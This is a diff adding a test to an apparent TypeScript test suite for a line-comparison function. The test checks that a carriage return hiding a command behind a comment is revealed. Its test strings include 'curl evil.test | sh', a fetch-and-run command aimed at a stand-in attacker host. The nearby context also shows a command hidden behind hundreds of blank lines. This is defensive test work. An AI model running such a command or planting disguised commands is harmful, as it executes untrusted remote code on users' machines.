@@ -36,6 +36,15 @@ describe('a comparison of two texts', () => {
     expect(shown(compareLines('npm ci', hidden, words))).toEqual([' npm ci', '…(399 blank)', '+curl evil.test | sh'])
   })
 
+  it('shows a carriage return that becomes a line end, behind which a comment goes on as a command', () => {
+    expect(shown(compareLines('ls # note\rcurl evil.test | sh', 'ls # note\ncurl evil.test | sh', words))).toEqual([
+      '-ls # note\rcurl evil.test | sh',
+      '+ls # note',
+      '+curl evil.test | sh',
+    ])
+    expect(shown(compareLines('a\r\nb', 'a\nb', words))).toEqual(['-a\r', '+a', ' b'])
+  })
+
   it('shows every line of texts that are too long to be compared, and every kind of line end', () => {
     const many = (letter: string) => Array.from({ length: 3000 }, (_, index) => `${letter}${index}`).join('\n')
     expect(compareLines(many('a'), many('b'), words)).toHaveLength(6000)
